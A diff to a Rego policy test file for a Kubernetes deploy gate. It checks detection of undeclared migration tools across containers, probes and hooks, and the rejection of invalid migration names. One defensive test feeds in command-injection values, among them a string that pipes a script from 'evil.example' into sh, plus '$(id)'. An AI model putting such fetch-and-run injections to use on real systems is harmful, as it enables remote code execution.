@@ -38,7 +38,7 @@ unapproved := violation(
 
 unreadable := violation(
 	"Whether this carries a migration cannot be told.",
-	"Mend the init containers of its pod template.", {"who": ["developer"]},
+	"Mend the containers of its pod template.", {"who": ["developer"]},
 )
 
 undeclared(tools) := violation(
@@ -119,6 +119,73 @@ test_tools_in_commands if {
 		init({"name": "db", "args": [text]}) == {undeclared(tool)}
 	}
 	init({"name": "db", "command": ["sleep", "1"], "args": null}) == set()
+}
+
+running(container) := denied({"workload": {"object": {"spec": {"template": {"spec": {"containers": [container]}}}}}})
+
+undeclared_in_container(tools) := object.union(undeclared(tools), {
+	"message": sprintf("No migration is declared, but container db runs %s.", [tools]),
+})
+
+test_tools_behind_every_separator if {
+	every text in [
+		"alembic>/dev/null upgrade head", "python -malembic upgrade head", "set -e\r\nalembic\r\nupgrade head",
+		`\alembic upgrade head`, "cat urls|xargs -n1 alembic<conf", "!alembic", "alembic\\\n  upgrade head",
+		"alembic>>log 2>&1", "a\"lem\"bic upgrade", `al\embic`, "al\\\nembic", "'alembic'", "exec\u00a0alembic", "~/alembic",
+		"python3 -Imalembic", "alembic*", "alembic%", "[alembic]", "alembic^", "+alembic", "alembic?", "alembic#x", "alembic\u0000x",
+		"alembic\u000bupgrade", "x --no-input alembic", "x --sql=off alembic", "x --a=false --b=no alembic",
+	] {
+		init({"name": "db", "command": ["sh", "-c", text]}) == {undeclared("alembic")}
+	}
+}
+
+test_tools_of_several_words if {
+	found := init({"name": "db", "command": ["golang-migrate"]}) with fixture.turned as {"/migration/tools": ["golang-migrate", ""]}
+	found == {undeclared("golang-migrate")}
+}
+
+test_tools_in_every_container_and_hook if {
+	command := ["sh", "-c", "alembic upgrade head && exec serve"]
+	every member in [
+		{"command": command}, {"args": command},
+		{"livenessProbe": {"exec": {"command": command}}}, {"readinessProbe": {"exec": {"command": command}}},
+		{"startupProbe": {"exec": {"command": command}}}, {"lifecycle": {"postStart": {"exec": {"command": command}}}},
+		{"lifecycle": {"preStop": {"exec": {"command": command}}}},
+	] {
+		container := object.union({"name": "db"}, member)
+		running(container) == {undeclared_in_container("alembic")}
+		init(container) == {undeclared("alembic")}
+		pod := {"ephemeralContainers": [container]}
+		denied({"workload": {"object": {"spec": {"template": {"spec": pod}}}}}) == {undeclared_in_container("alembic")}
+	}
+}
+
+test_ordinary_words_are_no_tools if {
+	every text in [
+		"serve --migrate=false", "serve --auto-migrate=off --x", "serve -migrate=0", "serve --no-migrate", "serve --skip-migrate",
+		"migrations", "immigrate", "rails server", "bundle exec rails s -b 0.0.0.0", "django-admin runserver", "serve",
+	] {
+		running({"name": "app", "image": "registry.novapay.local/migrate", "args": [text]}) == set()
+	}
+	every text, tools in {
+		"rails db:prepare && rails server": "rails", "rails db:migrate": "migrate and rails",
+		"django-admin migrate": "django and migrate", "serve --migrate=true": "migrate", "serve --migrate": "migrate",
+	} {
+		running({"name": "db", "args": [text]}) == {undeclared_in_container(tools)}
+	}
+}
+
+test_name_that_kubernetes_does_not_allow if {
+	every name in ["x; curl -s https://evil.example/i.sh | sh #", "$(id)", "`id`", "-rf", "a\nb", "Add_refunds", "a'b", "é"] {
+		found := declaring([object.union(migration, {"name": name})], [object.union(agreed, {"migration": name})]) with mark as object.union(
+			mark,
+			{"metadata": {"annotations": {"deploygate.novapay.com/migration": name}}},
+		)
+		count(found) == 1
+		some violation in found
+		contains(violation.message, " (not a valid name) cannot be announced under this name.")
+		not contains(violation.remedy, "novapay announce")
+	}
 }
 
 test_missing_or_ill_typed_containers_deny if {
